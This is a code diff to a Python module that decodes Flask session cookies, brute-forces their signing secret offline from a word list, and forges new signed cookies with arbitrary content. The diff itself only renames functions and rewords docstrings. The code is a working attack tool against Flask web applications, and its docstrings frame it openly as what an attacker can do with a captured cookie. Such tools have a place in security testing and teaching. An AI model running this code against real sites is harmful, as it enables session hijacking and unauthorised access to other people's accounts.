@@ -1,4 +1,4 @@
-"""Do to a session cookie what anybody can do who gets hold of it."""
+"""Do what anyone can do who has a session cookie: read it, guess its key, write another one."""
 
 import json
 import zlib
@@ -11,8 +11,8 @@ from flask.sessions import SecureCookieSessionInterface
 from itsdangerous import BadSignature, URLSafeTimedSerializer
 
 
-def read(cookie: str) -> Any:
-    """Return the content of a session cookie, or None if it has none. There is no key in here."""
+def read_content(cookie: str) -> Any:
+    """Return the content of a session cookie, or None if there is none. This needs no key."""
     text = cookie.removeprefix(".").partition(".")[0]
     try:
         data = urlsafe_b64decode(text + "=" * (-len(text) % 4))
@@ -23,24 +23,24 @@ def read(cookie: str) -> Any:
         return None
 
 
-def signer(key: str) -> URLSafeTimedSerializer:
-    """Return what Flask signs its sessions with, for a key that we think of."""
+def make_serializer(key: str) -> URLSafeTimedSerializer:
+    """Return the object with which Flask signs sessions, for a key of our choice."""
     app = Flask("attacker")
     app.secret_key = key
     return SecureCookieSessionInterface().get_signing_serializer(app)
 
 
-def guess(cookie: str, words: Iterable[str]) -> str | None:
-    """Return the word that signed the cookie. This happens at home: no server sees the attempts."""
+def guess_key(cookie: str, words: Iterable[str]) -> str | None:
+    """Return the word that signed the cookie. No server sees these attempts."""
     for word in words:
         try:
-            signer(word).loads(cookie)
+            make_serializer(word).loads(cookie)
         except BadSignature:
             continue
         return word
     return None
 
 
-def forge(content: Mapping[str, Any], key: str) -> str:
-    """Return a session cookie with any content at all, once the key is known."""
-    return signer(key).dumps(dict(content))
+def forge_cookie(content: Mapping[str, Any], key: str) -> str:
+    """Return a session cookie with any content, once the key is known."""
+    return make_serializer(key).dumps(dict(content))
